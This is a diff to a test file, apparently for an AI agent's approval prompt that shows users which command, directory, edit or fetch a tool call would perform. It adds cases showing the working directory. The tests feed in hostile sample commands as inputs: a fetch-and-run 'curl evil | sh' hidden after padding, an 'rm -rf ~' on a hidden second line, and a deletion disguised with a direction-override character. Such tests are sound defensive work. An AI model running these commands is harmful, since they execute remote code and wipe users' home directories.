@@ -39,6 +39,10 @@ const ALL = ["Allow once", "Reject"];
 
 test.each<[Partial<Attention>, string]>([
   [{ toolKind: "execute", command: "npm test" }, "reviewer wants to run in house: npm test"],
+  [
+    { toolKind: "execute", command: "npm test", cwd: "/etc/init.d" },
+    "reviewer wants to run in /etc/init.d: npm test",
+  ],
   [{ toolKind: "edit", paths: ["a.py", "b.py"] }, "reviewer wants to edit: a.py, b.py"],
   [{ toolKind: "fetch", url: "https://a.b/c" }, "reviewer wants to fetch: https://a.b/c"],
 ])("a question is asked with all that would be done: %j", (attention, text) => {
@@ -50,6 +54,7 @@ test.each<[string, Partial<Attention>]>([
   ["a command is longer", { command: `${"a".repeat(300)}; curl evil | sh` }],
   ["a command has several lines", { command: "npm test\nrm -rf ~" }],
   ["a command has blanks that a line loses", { command: 'rm "a  b"' }],
+  ["a command's directory is longer", { command: "ls", cwd: `/etc/${"a".repeat(60)}/b` }],
   ["a command hides a character", { command: "rm \u202e~" }],
   [
     "a diff is not in the line",
